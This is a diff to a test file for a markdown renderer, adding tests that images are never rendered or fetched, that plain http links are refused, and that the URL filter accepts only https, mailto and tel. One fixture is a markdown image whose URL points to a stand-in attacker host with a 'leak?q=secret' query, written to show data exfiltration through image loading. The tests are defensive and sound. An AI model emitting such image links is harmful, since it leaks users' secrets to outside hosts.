@@ -121,10 +121,26 @@ describe('renderMarkdown', () => {
   });
 });
 
+describe('images', () => {
+  it('never renders an image, only its alt text, and requests nothing', () => {
+    const d = dom('See ![our cellar](https://evil.example/leak?q=secret) and ![ref][1] here');
+    expect(d.querySelector('img')).toBeNull();
+    expect(d.querySelector('a')).toBeNull();
+    expect(d.textContent).toBe('See our cellar and ref here');
+  });
+
+  it('does not link plain http URLs', () => {
+    const d = dom('old site http://example.com/x and [new](http://example.com/y)');
+    expect(d.querySelector('a')).toBeNull();
+  });
+});
+
 describe('safeUrl', () => {
-  it('accepts http(s), mailto and tel', () => {
+  it('accepts https, mailto and tel', () => {
     expect(safeUrl('https://example.com')).toBe('https://example.com/');
-    expect(safeUrl(' http://example.com/x?y=1 ')).toBe('http://example.com/x?y=1');
+    expect(safeUrl(' https://example.com/x?y=1 ')).toBe('https://example.com/x?y=1');
+    expect(safeUrl('http://example.com/x')).toBeNull();
+    expect(safeUrl('http://example.com/x', ['http:'])).toBe('http://example.com/x');
     expect(safeUrl('mailto:a@b.co')).toBe('mailto:a@b.co');
     expect(safeUrl('tel:+1-845-555-1234')).toBe('tel:+1-845-555-1234');
   });
